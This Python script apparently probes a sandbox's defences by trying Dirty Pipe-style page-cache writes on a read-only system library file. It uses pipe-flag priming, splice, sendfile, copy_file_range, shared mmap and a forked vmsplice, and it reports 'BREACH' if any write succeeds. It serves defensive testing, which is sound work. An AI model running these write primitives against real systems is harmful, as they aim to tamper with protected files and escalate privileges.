# Tries: "Dirty Pipe" and its kin: to write into the page cache of a file that it may only read, by
# splice, tee, vmsplice, copy_file_range, sendfile and a shared mapping.
# Stopped by: read-only mounts, the owner of the files, the seccomp filter (vmsplice: death).
import ctypes
import mmap
import os

PATH = "/usr/lib/python3.X/LICENSE.txt"
PATH = PATH if os.path.exists(PATH) else "/usr/lib/python3.X/this.py"
VMSPLICE, GIFT = 278, 8
libc = ctypes.CDLL(None, use_errno=True)
before = open(PATH, "rb").read()
library = os.open(PATH, os.O_RDONLY)
reading, writing = os.pipe()
os.write(writing, bytes(65536))  # every slot of the pipe gets the flag that lets writes merge
os.read(reading, 65536)
os.splice(library, writing, 1, offset_src=0)
os.write(writing, b"OVERWRITTEN")
mine = os.memfd_create("mine")
os.write(mine, b"OVERWRITTEN" * 9)
for attempt in (lambda: os.copy_file_range(mine, library, 99, 0, 0),
                lambda: os.sendfile(library, mine, 0, 99),
                lambda: os.splice(reading, library, 9, offset_dst=0),
                lambda: os.pwrite(library, b"OVERWRITTEN", 0),
                lambda: os.truncate(PATH, 0),
                lambda: os.posix_fallocate(library, 0, 1 << 20),
                lambda: mmap.mmap(library, 99, mmap.MAP_SHARED, mmap.PROT_WRITE).write(b"O"),
                lambda: os.open(PATH, os.O_RDWR)):
    try:
        attempt()
    except (OSError, ValueError) as refusal:
        print(refusal)
private = mmap.mmap(library, 99, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE)
private[:4] = b"mine"  # its own copy, nobody else's
if os.fork() == 0:
    piece = (ctypes.c_ulong * 2)(ctypes.addressof(ctypes.c_char.from_buffer(private)) & ~4095, 99)
    if libc.syscall(VMSPLICE, writing, piece, ctypes.c_ulong(1), GIFT) >= 0:
        os.write(1, b"BREACH: pages given to a pipe\n")
    os._exit(0)
os.wait()
if open(PATH, "rb").read() != before:
    print("BREACH: the library's file has changed")
